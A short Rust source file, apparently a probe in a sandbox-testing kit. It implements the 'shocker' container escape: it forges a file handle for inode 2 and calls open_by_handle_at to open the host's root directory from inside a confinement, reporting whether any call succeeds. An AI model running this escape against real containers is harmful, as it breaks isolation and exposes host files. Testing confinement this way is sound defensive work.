//! Opens files by their number in a file system, wherever their names are: the attack called
//! shocker.

use crate::kit::{self, AT_FDCWD, Args, O_DIRECTORY, O_RDONLY, nr, path};

const ROOM: u32 = 128;

/// What name_to_handle_at(2) fills.
#[repr(C)]
struct Handle {
    bytes: u32,
    kind: i32,
    id: [u8; ROOM as usize],
}

pub fn attack(_: Args) -> ! {
    // The second inode is the root directory of most file systems.
    let mut id = [0; ROOM as usize];
    id[0] = 2;
    let root = Handle { bytes: 8, kind: 1, id };
    let mut own = Handle { bytes: ROOM, kind: 0, id: [0; ROOM as usize] };
    let mut mount = 0_i32;
    let here = kit::open(b".\0", O_RDONLY | O_DIRECTORY).unwrap_or(usize::MAX);
    let (at_own, at_mount) = (&raw mut own as usize, &raw mut mount as usize);
    let named = kit::call(nr::NAME_TO_HANDLE_AT, [AT_FDCWD, path(b".\0"), at_own, at_mount, 0]);
    kit::reach_any(&mut [
        ("name_to_handle_at", &mut || named),
        ("open_by_handle_at of its own directory", &mut || {
            kit::call(nr::OPEN_BY_HANDLE_AT, [here, at_own, O_RDONLY])
        }),
        ("open_by_handle_at of a root", &mut || {
            kit::call(nr::OPEN_BY_HANDLE_AT, [here, &raw const root as usize, O_RDONLY])
        }),
    ])
}
